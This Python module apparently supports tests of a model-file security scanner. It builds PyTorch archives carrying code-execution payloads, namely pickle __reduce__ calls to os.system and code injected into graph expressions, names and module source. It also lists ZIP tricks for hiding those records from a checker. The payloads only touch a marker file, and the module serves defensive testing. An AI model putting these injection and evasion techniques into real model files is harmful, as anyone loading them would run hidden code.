"""Archives whose records are not where a guard may look for them, each with a payload that would run.

A payload creates a file of a certain name in the working folder. An arrangement hides the record that carries it.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

MARK = "the-payload-ran"
Records = list[tuple[str, bytes]]


class Runs:
    """An object whose pickle creates the file."""

    def __reduce__(self) -> Any:
        return os.system, (f"touch {MARK}",)


class Opens:
    """One that needs no shell."""

    def __reduce__(self) -> Any:
        return open, (MARK, "w")


def records(path: Path) -> Records:
    """What an archive holds, in order."""
    with zipfile.ZipFile(path) as archive:
        return [(n, archive.read(n)) for n in archive.namelist()]


def pack(held: Records, compression: int = zipfile.ZIP_STORED) -> bytes:
    """An archive of these records; names may stand twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in held:
            archive.writestr(zipfile.ZipInfo(name), content, compression)
    return out.getvalue()


def rewritten(held: Records, end: str, change: Callable[[bytes], bytes]) -> Records:
    """The records with one changed: the first whose name ends so."""
    name = next(n for n, _ in held if n.endswith(end))
    return [(n, change(c) if n == name else c) for n, c in held]


# payloads: records of a sound archive → (records with a payload, the name of the one that carries it) -----------------


def _in_pickle(value: Any, end: str) -> Callable[[Records], tuple[Records, str]]:
    def put(held: Records) -> tuple[Records, str]:
        return rewritten(held, end, lambda _: pickle.dumps({"w": value}, 2)), end

    return put


def _in_torch_save(value: Any, end: str) -> Callable[[Records], tuple[Records, str]]:
    def put(held: Records) -> tuple[Records, str]:
        import torch

        buffer = io.BytesIO()
        torch.save((value,), buffer)
        return rewritten(held, end, lambda _: buffer.getvalue()), end

    return put


def _in_graph(change: Callable[[Any], Any]) -> Callable[[Records], tuple[Records, str]]:
    def put(held: Records) -> tuple[Records, str]:
        end = "models/model.json"
        return rewritten(held, end, lambda c: json.dumps(change(json.loads(c))).encode()), end

    return put


def _sizes(text: str) -> Callable[[Any], Any]:
    def walk(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: text if k == "expr_str" else walk(v) for k, v in value.items()}
        return [walk(v) for v in value] if isinstance(value, list) else value

    return walk


def _structure(name: str) -> Callable[[Any], Any]:
    """An argument's structure that has an enumeration imported, its key spelt with an escape."""

    def change(held: Any) -> Any:
        Path(f"{MARK}_module.py").write_text(f"open({MARK!r}, 'w')\nimport enum\nclass E(enum.Enum):\n    A = 1\n")
        for entry in held["graph_module"]["module_call_graph"]:
            if entry.get("signature"):
                context = json.dumps([{"__enum__": True, "fqn": f"{MARK}_module:E", "name": "A"}])
                context = context.replace("__enum__", name)
                spec = [1, {"type": "builtins.dict", "context": context, "children_spec": []}]
                entry["signature"]["in_spec"] = json.dumps(spec)
        return held

    return change


def _in_name(text: str) -> Callable[[Records], tuple[Records, str]]:
    """The name of an input, which becomes part of a function's source."""

    def put(held: Records) -> tuple[Records, str]:
        new = json.dumps(text).encode()
        return rewritten(
            held, "models/model.json", lambda c: c.replace(b'"name": "x"', b'"name": ' + new)
        ), "models/model.json"

    return put


def _in_code(line: str) -> Callable[[Records], tuple[Records, str]]:
    def put(held: Records) -> tuple[Records, str]:
        end = next(n for n, c in held if n.endswith(".py") and b"class Plain" in c).partition("/")[2]

        def change(raw: bytes) -> bytes:
            text = raw.decode()
            text = text[text.index("class Plain") :]
            at = text.index("\n", text.index("-> ")) + 1  # the first statement of forward
            before = raw.decode()[: -len(text)]
            return (before + text[:at] + f"    {line}\n" + text[at:]).encode()

        return rewritten(held, end, change), end

    return put


_CODE = f"__import__('os').system('touch {MARK}')"
PAYLOADS: dict[str, dict[str, Callable[[Records], tuple[Records, str]]]] = {
    ".pth": {
        "system": _in_pickle(Runs(), "data.pkl"),
        "open": _in_pickle(Opens(), "data.pkl"),
    },
    ".pt2": {
        "expression": _in_graph(_sizes(_CODE)),
        "expression in a function": _in_graph(_sizes(f'Max("{_CODE}", 3)')),
        "sample inputs": _in_torch_save(Runs(), "data/sample_inputs/model.pt"),
        "enumeration": _in_graph(_structure("__enum__")),
        "escaped enumeration": _in_graph(_structure("\\u005f_enum__")),
        "name": _in_name(f"x={_CODE}"),
    },
    ".pt": {
        "save": _in_code(f'torch.save(x, "{MARK}")'),
        "save over two lines": _in_code(f'torch.save\\\n(x, "{MARK}")'),
        "save with a comment": _in_code(f'torch.save( # (\n x, "{MARK}")'),
        "save by its space": _in_code(f'ops.aten.save(x, "{MARK}")'),
        "save of a value": _in_code(f'(x).save("{MARK}")'),
        "file": _in_code(f'x = torch.add(x, torch.sum(torch.from_file("{MARK}", True, 4)))'),
    },
}

# what torch 2.13 does not run itself: a tensor has no such method, and names are made fit for Python
REFUSED_BY_TORCH = {"save of a value", "name"}

# arrangements: records and the end of the carrier's name → the bytes of a file ------------------------------------------


def _renamed(change: Callable[[str], str]) -> Callable[[Records, Records, str], bytes]:
    return lambda held, sound, end: pack([(change(n) if n.endswith(end) else n, c) for n, c in held])


def _swap_case(end: str, old: str, new: str) -> str:
    head, _, tail = end.rpartition(old)
    return f"{head}{new}{tail}"


def _suffix(name: str, change: Callable[[str], str]) -> str:
    head, dot, suffix = name.rpartition(".")
    return f"{head}{dot}{change(suffix)}"


def _twice(first: bool) -> Callable[[Records, Records, str], bytes]:
    """The carrier beside the sound record of its name."""

    def arrange(held: Records, sound: Records, end: str) -> bytes:
        evil = [(n, c) for n, c in held if n.endswith(end)][:1]
        return pack(evil + sound if first else sound + evil)

    return arrange


def _twice_in_another_case(held: Records, sound: Records, end: str) -> bytes:
    evil = [(n.swapcase() if i else n.partition("/")[0] + "/" + n.partition("/")[2].swapcase(), c)
            for i, (n, c) in enumerate([(n, c) for n, c in held if n.endswith(end)][:1])]  # fmt: skip
    return pack(evil + sound)


def _other_folder(held: Records, sound: Records, end: str) -> bytes:
    """The first record is in another folder, which becomes the archive's name."""
    return pack([("other/" + n.partition("/")[2], c) for n, c in held] + sound)


def _nested(held: Records, sound: Records, end: str) -> bytes:
    return pack([("outer/" + n, c) for n, c in held])


def _deflated(held: Records, sound: Records, end: str) -> bytes:
    return pack(held, zipfile.ZIP_DEFLATED)


def _two_archives(held: Records, sound: Records, end: str) -> bytes:
    return pack(held) + pack(sound)


def _two_archives_reversed(held: Records, sound: Records, end: str) -> bytes:
    return pack(sound) + pack(held)


def _with_comment(held: Records, sound: Records, end: str) -> bytes:
    """A second end of a directory within the comment of the first."""
    hidden = pack(sound)
    evil = pack(held)
    return evil[:-2] + struct.pack("<H", len(hidden)) + hidden


def _local_name(held: Records, sound: Records, end: str) -> bytes:
    """The directory calls the carrier something harmless; what stands before its data has the real name, and reversed."""
    raw = bytearray(pack(held))
    name = next(n for n, _ in held if n.endswith(end)).encode()
    harmless = name[:-4] + b".bin" if len(name) > 4 else b"x" * len(name)
    at = raw.rindex(name)
    raw[at : at + len(name)] = harmless[: len(name)].ljust(len(name), b"n")
    return bytes(raw)


def _local_data(held: Records, sound: Records, end: str) -> bytes:
    """The directory points at a sound record; the carrier stands right behind it, as long in what is said before it."""
    name = next(n for n, _ in held if n.endswith(end))
    content = dict(held)[name]
    raw = bytearray(pack(sound))
    at = raw.index(name.encode()) - 30
    size = len(dict(sound)[name])
    if len(content) > size:
        return pack([(n, c) for n, c in sound if n != name] + [(name, content)]) + b"\0"
    data = at + 30 + len(name)
    raw[data : data + size] = content.ljust(size, b" ")
    struct.pack_into("<L", raw, at + 14, zlib.crc32(content.ljust(size, b" ")))
    return bytes(raw)


def _large_sizes(held: Records, sound: Records, end: str) -> bytes:
    """Sizes in an extra field, which disagrees with the plain ones."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in held:
            info = zipfile.ZipInfo(name)
            info.extra = struct.pack("<HHQQ", 1, 16, 1, 1)
            archive.writestr(info, content)
    return out.getvalue()


def _before(held: Records, sound: Records, end: str) -> bytes:
    return pack(sound)[:64] + pack(held)


ARRANGEMENTS: dict[str, Callable[[Records, Records, str], bytes]] = {
    "plain": lambda held, sound, end: pack(held),
    "compressed": _deflated,
    "upper case": _renamed(lambda n: _suffix(n, str.upper)),
    "one letter in upper case": _renamed(lambda n: _suffix(n, lambda s: s[:-1] + s[-1].upper())),
    "case of the folder": _renamed(lambda n: n.partition("/")[0] + "/" + n.partition("/")[2].capitalize()),
    "another ending": _renamed(lambda n: _suffix(n, lambda s: s[:-1] + "x")),
    "no ending": _renamed(lambda n: n.rpartition(".")[0]),
    "a longer ending": _renamed(lambda n: n + "x"),
    "a blank behind": _renamed(lambda n: n + " "),
    "a zero within": _renamed(lambda n: n + "\0.txt"),
    "a backslash": _renamed(lambda n: n[::-1].replace("/", "\\", 1)[::-1]),
    "a dot in between": _renamed(lambda n: n.partition("/")[0] + "/./" + n.partition("/")[2]),
    "two slashes": _renamed(lambda n: n.replace("/", "//", 1)),
    "another model": _renamed(lambda n: n.replace("model.", "model2.").replace("data.pkl", "data/data.pkl")),
    "twice, first": _twice(True),
    "twice, last": _twice(False),
    "twice in another case": _twice_in_another_case,
    "two folders": _other_folder,
    "a folder around it": _nested,
    "two archives": _two_archives,
    "two archives, reversed": _two_archives_reversed,
    "in a comment": _with_comment,
    "another name in the directory": _local_name,
    "other data than the directory's": _local_data,
    "sizes for large files": _large_sizes,
    "something before it": _before,
}
